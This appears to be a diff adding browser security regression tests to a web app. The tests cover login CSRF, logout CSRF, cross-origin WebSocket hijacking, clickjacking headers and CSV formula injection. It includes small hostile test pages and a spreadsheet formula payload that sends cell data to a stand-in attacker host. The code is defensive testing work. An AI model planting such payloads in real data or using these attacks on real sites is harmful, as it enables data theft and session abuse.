@@ -143,3 +143,154 @@ def test_a_bookmarked_page_asks_to_sign_in_then_opens_and_other_roles_are_told_n
         assert "Administration" not in nav_links(other)
     finally:
         expert.close()
+
+
+# --- issue 11: sign-in that cannot be turned against people (items 3, 4, 7, 9) ---------------------------
+
+def _evil_site(html: str):
+    """A page served by another 'site' on the same host (another port), like the probe's :8622."""
+    import http.server
+    import socketserver
+    import threading
+
+    body = html.encode()
+
+    class Handler(http.server.BaseHTTPRequestHandler):
+        def do_GET(self):  # noqa: N802 - http.server's name
+            self.send_response(200)
+            self.send_header("Content-Type", "text/html; charset=utf-8")
+            self.send_header("Content-Length", str(len(body)))
+            self.end_headers()
+            self.wfile.write(body)
+
+        def log_message(self, *args):
+            pass
+
+    server = socketserver.TCPServer(("127.0.0.1", 0), Handler)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    return server, f"http://127.0.0.1:{server.server_address[1]}/"
+
+
+def test_someone_elses_claim_link_does_not_sign_this_browser_in(browser, context, page, base_url):
+    """Login CSRF: an attacker's unused claim code, opened by the victim, used to sign every new tab of the
+    victim in as the attacker."""
+    attacker_ctx = browser.new_context(viewport={"width": 1440, "height": 900})
+    attacker = attacker_ctx.new_page()
+    stolen: list[str] = []
+
+    def hold_back(route):
+        stolen.append(route.request.url)
+        route.abort()
+
+    try:
+        attacker.route("**/auth/claim*", hold_back)
+        open_page(attacker, base_url)
+        sign_in(attacker, "expert2", wait_for_cookie=False)
+        for _ in range(100):
+            if stolen:
+                break
+            attacker.wait_for_timeout(100)
+        assert stolen, "the attacker's browser asked to redeem its claim code"
+    finally:
+        attacker_ctx.close()
+
+    open_page(page, base_url)  # the victim has used the app before
+    response = page.goto(stolen[0])
+    assert response.status == 410
+    assert session_cookie(page) is None
+    open_page(page, base_url)
+    page.locator(SIGN_IN_FORM).wait_for()
+    assert page.locator(SIGNED_IN).count() == 0
+
+
+def test_a_logout_link_in_a_comment_signs_nobody_out(page, base_url):
+    open_page(page, base_url)
+    sign_in(page, "expert3")
+    response = page.goto(f"{base_url}/auth/logout")
+    assert response.status == 410
+    open_page(page, base_url)
+    page.locator(SIGNED_IN).wait_for(timeout=10_000)
+    assert session_cookie(page) is not None
+    sign_out(page)  # the real sign-out still deletes the cookie
+    for _ in range(50):
+        if session_cookie(page) is None:
+            break
+        page.wait_for_timeout(100)
+    assert session_cookie(page) is None
+
+
+def test_a_page_on_another_port_of_the_same_host_cannot_open_the_apps_websocket(page, base_url):
+    open_page(page, base_url)
+    sign_in(page, "expert1")
+    ws_url = base_url.replace("http://", "ws://") + "/_stcore/stream"
+    server, evil = _evil_site(f"""<!doctype html><title>evil</title><script>
+      window.result = "pending";
+      const ws = new WebSocket({ws_url!r}, ["streamlit"]);
+      ws.onopen = () => {{ window.result = "open"; }};
+      ws.onclose = () => {{ if (window.result === "pending") window.result = "refused"; }};
+    </script>""")
+    try:
+        page.goto(evil)
+        page.wait_for_function("window.result !== 'pending'", timeout=10_000)
+        assert page.evaluate("window.result") == "refused"
+    finally:
+        server.shutdown()
+        server.server_close()
+
+
+def test_no_other_site_can_frame_the_app_and_responses_carry_the_security_headers(page, base_url):
+    response = page.goto(base_url)
+    headers = response.headers
+    assert headers["content-security-policy"] == "frame-ancestors 'self'"
+    assert headers["x-frame-options"] == "SAMEORIGIN"
+    assert headers["referrer-policy"] == "same-origin"
+    assert headers["x-content-type-options"] == "nosniff"
+    assert "strict-transport-security" not in headers  # plain http here; HSTS comes with https
+    server, evil = _evil_site(f'<!doctype html><title>evil</title><iframe src="{base_url}/" width=800 height=600>'
+                              "</iframe>")
+    try:
+        page.goto(evil)
+        page.wait_for_timeout(3000)
+        app_frames = [f for f in page.frames if f != page.main_frame]
+        assert app_frames, "the frame element exists"
+        for frame in app_frames:
+            assert frame.locator('[data-testid="stApp"]').count() == 0, "the app must not render in a foreign frame"
+    finally:
+        server.shutdown()
+        server.server_close()
+
+
+def test_the_tables_download_as_csv_writes_no_live_formula(browser, demo_db_url, tmp_path):
+    """The probe found 19 formula cells, e.g. =HYPERLINK(...) in a display name, in the tables' CSV downloads."""
+    from recdraft.db.engine import Database
+    from recdraft.services import accounts
+    from recdraft.services._base import SYSTEM
+
+    payload = '=HYPERLINK("http://evil.example/?d="&A2,"open")'
+    source = Path(demo_db_url.removeprefix("sqlite:///"))
+    copy = tmp_path / "csv.sqlite3"
+    with sqlite3.connect(source) as src, sqlite3.connect(copy) as dst:
+        src.backup(dst)
+    db = Database(f"sqlite:///{copy}")
+    accounts.create_user(db, actor_id=SYSTEM, username="mallory", display_name=payload, password="a long password")
+    db.dispose()
+    with running_app(f"sqlite:///{copy}", tmp_path / "server.log") as url:
+        ctx = browser.new_context(viewport={"width": 1440, "height": 900}, accept_downloads=True)
+        # The File System Access picker cannot be answered headless: use the download fallback.
+        ctx.add_init_script("delete window.showSaveFilePicker;")
+        page = ctx.new_page()
+        try:
+            open_page(page, url, "admin")
+            sign_in(page, "admin")
+            table = page.locator('[data-testid="stDataFrame"]').first  # the Accounts tab's table
+            table.wait_for()
+            table.hover()
+            with page.expect_download() as info:
+                page.get_by_role("button", name="Download as CSV").first.click()
+            text = Path(info.value.path()).read_text(encoding="utf-8-sig")
+        finally:
+            ctx.close()
+    cells = [cell for line in text.splitlines() for cell in line.split(",")]
+    assert any("HYPERLINK" in cell for cell in cells)
+    for cell in cells:
+        assert not cell.lstrip('"').startswith(("=", "+", "-", "@")), cell
